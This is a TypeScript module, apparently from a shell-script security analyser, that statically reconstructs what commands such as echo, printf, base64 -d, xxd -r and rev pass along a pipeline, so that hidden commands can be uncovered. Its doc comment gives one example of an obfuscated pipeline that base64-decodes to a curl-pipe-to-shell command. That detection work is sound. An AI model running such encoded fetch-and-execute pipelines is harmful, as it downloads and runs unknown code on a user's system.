import { programName } from './command-views.js';
import type { ShellCommand } from './shell-ir.js';
import { decodeCEscapes } from './unescape.js';

/**
 * The text a command reads on stdin, when the script itself spells it out: a here-string, a heredoc,
 * or a pipeline from `echo`/`printf`, through `base64 -d`, `xxd -r -p`, `rev` or `cat`. This is how
 * `echo Y3VybCB4fHNo | base64 -d | sh` is seen to run `curl x|sh`. `undefined` when the text is not
 * in the script (a file, a download).
 */
export function stdinText(command: ShellCommand, depth = 0): string | undefined {
  if (depth > 6) return undefined;
  for (const redirect of command.redirects) {
    if (redirect.body !== undefined) return redirect.body;
  }
  const producer = command.pipedFrom.at(-1);
  if (producer === undefined || producer.length !== 1 || producer[0] === undefined) return undefined;
  return outputText(producer[0], depth + 1);
}

/** What a command prints, when the script spells it out (`echo`, `printf`, a decoder fed such text). */
export function outputText(command: ShellCommand, depth = 0): string | undefined {
  const [nameWord, ...argWords] = command.words;
  if (nameWord === undefined) return undefined;
  const name = programName(nameWord.value);
  const args = argWords.map((w) => w.value);
  switch (name) {
    case 'echo': {
      let index = 0;
      let escapes = false;
      while (/^-[neE]+$/.test(args[index] ?? '')) escapes ||= (args[index++] ?? '').includes('e');
      const text = args.slice(index).join(' ');
      return escapes ? decodeCEscapes(text) : text;
    }
    case 'printf': {
      const [format = '', ...rest] = args;
      let next = 0;
      return decodeCEscapes(format).replace(/%[sb]/g, () => rest[next++] ?? '');
    }
    case 'cat':
      return args.length === 0 || args[0] === '-' ? stdinText(command, depth) : undefined;
    case 'base64':
    case 'base32': {
      if (!args.some((a) => /^-[a-zA-Z]*[dD]/.test(a) || a === '--decode')) return undefined;
      const input = stdinText(command, depth);
      return input === undefined || name === 'base32'
        ? undefined
        : Buffer.from(input.trim(), 'base64').toString('utf8');
    }
    case 'xxd': {
      if (!args.some((a) => a.includes('r'))) return undefined;
      const input = stdinText(command, depth)?.replace(/[^0-9a-fA-F]/g, '');
      return input === undefined ? undefined : Buffer.from(input, 'hex').toString('utf8');
    }
    // `$(pwd)` is the directory the script is in, when `cd` earlier left it known.
    case 'pwd':
      return command.cwd === '?' ? undefined : command.cwd;
    case 'rev':
      return stdinText(command, depth)
        ?.split('\n')
        .map((line) => [...line].reverse().join(''))
        .join('\n');
    default:
      return undefined;
  }
}
